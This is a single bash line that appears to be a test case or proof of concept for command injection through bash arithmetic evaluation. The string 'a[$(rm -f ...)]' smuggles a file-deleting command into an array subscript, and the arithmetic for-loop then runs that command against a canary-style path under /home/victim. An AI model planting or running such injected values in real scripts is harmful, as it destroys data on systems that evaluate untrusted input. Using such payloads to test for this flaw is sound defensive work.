x='a[$(rm -f /srv/rt/s/d1/home/victim/keep-D25)]'; for ((i=x; i<0; i++)); do :; done
